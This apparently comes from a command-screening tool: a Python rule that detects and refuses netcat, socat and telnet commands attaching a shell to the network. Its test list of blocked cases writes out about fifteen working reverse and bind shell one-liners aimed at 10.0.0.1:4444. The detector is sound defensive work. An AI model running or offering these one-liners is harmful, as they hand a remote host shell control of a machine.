"""netcat-shell: connects a shell to the network with netcat or a similar program.

Why      the remote side can do anything on this machine that the user can.
Instead  `ssh` for working on another machine; `nc -zv host port` to see whether a port answers.
Misses   tunnels by other programs (chisel, ngrok, ssh -R), or with a custom protocol.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

from nacre.base.lazy_regex import lazy_regex
from nacre.policy.facts.shell_usage import find_pipeline, is_shell, reads_commands_from_pipe
from nacre.policy.rule import CheckContext, Hit, Rule
from nacre.shell import Command, Script
from nacre.shell.symbolic import DOWNLOADED, is_fully_known
from nacre.verdict import Decision

NETCATS = ("nc", "ncat", "netcat", "nc.traditional", "nc.openbsd")
_NETWORK = lazy_regex(r"(?:tcp|udp|openssl|ssl|sctp|socks|proxy)\w*(?:-\w+)*:", re.IGNORECASE)
_EXECUTES = lazy_regex(r"(?:exec|system|shell):['\"]?([^\s,'\"]+)", re.IGNORECASE)


def match(command: Command, context: CheckContext) -> Hit | None:
    if command.name == "socat":
        programs = [found[1] for word in command.args if (found := _EXECUTES.match(word))]
        return Hit() if any(map(is_shell, programs)) and any(map(_NETWORK.match, command.args)) else None
    for option, program in started_programs(command):
        if is_shell(program) or (program and not is_fully_known(program) and option != "c"):
            return Hit()
    return None


def started_programs(command: Command) -> Iterator[tuple[str, str]]:
    """Yield the programs that a netcat would start, each with the option's name: `c`, `e` or a long one."""
    args = command.args
    for index, word in enumerate(args):
        found = re.fullmatch(r"-[A-Za-z0-9]*?([ec])(/.*)?|(--(?:sh-)?exec)(?:=(.*))?", word, re.DOTALL)
        if found is not None:
            value = found[2] or found[4] or "".join(args[index + 1 : index + 2])
            yield found[1] or found[3], "".join(value.split()[:1])


def match_script(script: Script, context: CheckContext) -> tuple[int, int, Hit] | None:
    """Match `sh -i | nc host port`, and the reverse, `nc | sh`: a shell that runs text from the network."""
    if not any(map(_connects, script.commands)):
        return None
    served = find_pipeline(script, reads_commands_from_pipe, _connects, through=True)
    return served or find_pipeline(script, _connects, _takes_downloaded, through=True)


def _connects(command: Command) -> bool:
    return command.name in NETCATS or command.name == "telnet"


def _takes_downloaded(command: Command) -> bool:
    return reads_commands_from_pipe(command) and DOWNLOADED in (command.stdin or "")


RULE = Rule(
    id="netcat-shell",
    decision=Decision.REFUSE,
    reason="would give a remote host a shell on this machine",
    instead="`nc -zv host port`, to see whether a port answers",
    commands=(*NETCATS, "socat", "telnet"),
    match=match,
    match_script=match_script,
    hits=(
        "nc -e /bin/sh 10.0.0.1 4444",
        "nc 10.0.0.1 4444 -e /bin/bash",
        "nc -c bash 10.0.0.1 4444",
        "nc -lvpe /bin/sh 4444",
        "ncat --sh-exec 'bash -i' 10.0.0.1 4444",
        "ncat -lk 4444 --exec=/bin/bash",
        "sudo nc.traditional -nve /bin/sh 10.0.0.1 4444",
        "busybox nc 10.0.0.1 4444 -e /bin/sh",
        "mkfifo f; cat f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > f",
        "nc -l 4444 < f | bash > f 2>&1",
        "telnet 10.0.0.1 4444 | sh | telnet 10.0.0.1 4445",
        "bash -i 2>&1 | tee shell.log | nc 10.0.0.1 4444",
        "c='bash -i | nc 10.0.0.1 4444'; eval \"$c\"",
        "socat exec:'bash -li',pty tcp:10.0.0.1:4444",
        "socat TCP-LISTEN:4444,fork EXEC:/bin/sh",
    ),
    passes=(
        "nc -zv localhost 5432",
        "nc -l 8080 > received.bin",
        "echo stat | nc localhost 2181",
        "ncat --version",
        "nc -c example.com 443",
        "bash report.sh | nc log 9000",
        "echo date | sh | nc localhost 9000",
        "socat TCP-LISTEN:8080,fork TCP:localhost:80",
        "socat TCP-LISTEN:8080,fork EXEC:/bin/cat",
        "echo 'nc -e /bin/sh'",
    ),
)
